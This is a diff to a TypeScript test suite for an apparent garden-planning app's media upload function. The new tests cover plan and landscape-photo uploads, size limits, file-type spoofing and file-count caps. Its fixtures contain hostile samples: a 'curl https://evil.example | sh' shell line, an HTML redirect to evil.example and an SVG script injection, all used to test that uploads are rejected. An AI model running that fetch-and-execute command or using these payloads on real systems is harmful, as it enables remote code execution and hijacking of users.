@@ -6,6 +6,11 @@ import { INSPIRATION_MAX_FILES } from '@yardwise/domain/forms/inspirationUploads
 import { FILE_LIMIT_REACHED } from '@yardwise/domain/forms/messages';
 import { UPLOAD_SIZE_LIMITS } from '@yardwise/domain/forms/uploadAccept';
 import {
+  LANDSCAPE_INSPIRATION_MAX_PHOTOS,
+  mediaTagOfVariant,
+  PLANS_MAX_FILES,
+} from '@yardwise/domain/onboarding/media';
+import {
   MEDIA_FILE_TYPE_INVALID,
   MEDIA_NOT_STORED,
   MEDIA_PATH_INVALID,
@@ -69,6 +74,7 @@ const FILE_STARTS = {
   html: bytesOf('<!DOCTYPE html><html><script>document.location="https://evil.example"</script>'),
   script: bytesOf('#!/bin/sh\ncurl https://evil.example | sh'),
   svg: bytesOf('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
+  pdf: bytesOf('%PDF-1.7\n%\u00e2\u00e3'),
 };
 
 function recordInput(
@@ -344,5 +350,104 @@ describe('recordMedia callable (onboarding §3, §4, §7)', () => {
     const [id] = Object.keys(media);
     expect(answers.map((answer) => answer.media.id)).toEqual([id, id, id]);
     expect(storage.has(path)).toBe(true);
+  });
+});
+
+describe('recordMedia for the later steps: landscape inspiration photos and plans', () => {
+  /**
+   * A file stored under the plan- prefix, as the web app stores plans: storage lets a plan's JPEG
+   * or PNG be 50 MB there, but the prefix lifts no limit for any other variant.
+   */
+  function stored(extension: string, contentType: string, size: number, start: Uint8Array) {
+    const path = `media/${ana.uid}/plan-${randomUUID()}.1772445600000.${extension}`;
+    storage.put(path, { contentType, size }, start);
+    return path;
+  }
+  const laterInput = (path: string, variant: string, fileType: string, name = 'file') => ({
+    path,
+    fileType,
+    variant,
+    tag: mediaTagOfVariant(variant),
+    originalFileName: name,
+  });
+
+  it('records a landscape inspiration photo with its own tag', async () => {
+    const path = upload(ana, 'jpg', 'image/jpeg', 4096, FILE_STARTS.jpeg);
+    const { media } = await record(
+      laterInput(path, 'landscape-inspiration', 'image/jpeg', 'patio.jpg'),
+    );
+    expect(await readDoc('media', media.id)).toMatchObject({
+      tag: 'landscape-inspiration',
+      variant: 'landscape-inspiration',
+      description: '',
+    });
+  });
+
+  it.each([
+    ['a PDF of exactly 50 MB', 'pdf', 'application/pdf', FILE_STARTS.pdf],
+    ['a JPEG scan of exactly 50 MB', 'jpg', 'image/jpeg', FILE_STARTS.jpeg],
+    ['a PNG drawing of exactly 50 MB', 'png', 'image/png', FILE_STARTS.png],
+  ] as const)('records %s as a plan', async (_, extension, type, start) => {
+    const path = stored(extension, type, UPLOAD_SIZE_LIMITS.document, start);
+    const { media } = await record(laterInput(path, 'plan', type, `survey.${extension}`));
+    expect(await readDoc('media', media.id)).toMatchObject({ tag: 'plans', fileType: type });
+    expect(storage.has(path)).toBe(true);
+  });
+
+  it.each([
+    ['a plan a byte over 50 MB', 'plan', 'application/pdf', 'pdf', 50 * 1024 * 1024 + 1],
+    ['an HTML page stored as a PDF plan', 'plan', 'application/pdf', 'html', 4096],
+    ['a JPEG stored as a PDF plan', 'plan', 'application/pdf', 'jpeg', 4096],
+    ['a PDF stored as a JPEG plan', 'plan', 'image/jpeg', 'pdf', 4096],
+    [
+      'a landscape photo over the photo limit',
+      'landscape-inspiration',
+      'image/jpeg',
+      'jpeg',
+      UPLOAD_SIZE_LIMITS.photo + 1,
+    ],
+  ] as const)('deletes and refuses %s', async (_, variant, type, start, size) => {
+    const path = stored('bin', type, size, FILE_STARTS[start]);
+    const error = await rejection(record(laterInput(path, variant, type)));
+    expect([error.code, error.message]).toEqual(['invalid-argument', MEDIA_FILE_TYPE_INVALID]);
+    expect(storage.has(path)).toBe(false);
+    expect(await allDocs('media')).toEqual({});
+  });
+
+  it.each([
+    ['a HEIC photo as a plan', 'plan', 'image/heic'],
+    ['a video as a plan', 'plan', 'video/mp4'],
+    ['a DWG drawing as a plan', 'plan', 'image/vnd.dwg'],
+    ['a PDF as a landscape inspiration photo', 'landscape-inspiration', 'application/pdf'],
+  ])('refuses %s as invalid input', async (_, variant, type) => {
+    const path = stored('bin', type, 4096, FILE_STARTS.pdf);
+    const error = await rejection(record(laterInput(path, variant, type)));
+    expect([error.code, error.message]).toEqual(['invalid-argument', MEDIA_FILE_TYPE_INVALID]);
+    expect(await allDocs('media')).toEqual({});
+  });
+
+  it.each([
+    [
+      'an 11th landscape inspiration photo',
+      'landscape-inspiration',
+      LANDSCAPE_INSPIRATION_MAX_PHOTOS,
+    ],
+    ['an 11th plan', 'plan', PLANS_MAX_FILES],
+  ] as const)(`refuses %s with "${FILE_LIMIT_REACHED}"`, async (_, variant, limit) => {
+    expect(limit).toBe(10);
+    for (let file = 1; file <= limit; file += 1) {
+      const path = upload(ana, 'jpg', 'image/jpeg', 4096, FILE_STARTS.jpeg);
+      await record(laterInput(path, variant, 'image/jpeg'));
+    }
+    // The other kinds keep their own counts.
+    await recordPhoto('inspiration');
+    const recorded = await allDocs('media');
+    const path = upload(ana, 'jpg', 'image/jpeg', 4096, FILE_STARTS.jpeg);
+
+    const error = await rejection(record(laterInput(path, variant, 'image/jpeg')));
+
+    expect([error.code, error.message]).toEqual(['failed-precondition', FILE_LIMIT_REACHED]);
+    expect(await allDocs('media')).toEqual(recorded);
+    expect(storage.has(path)).toBe(false);
   });
 });
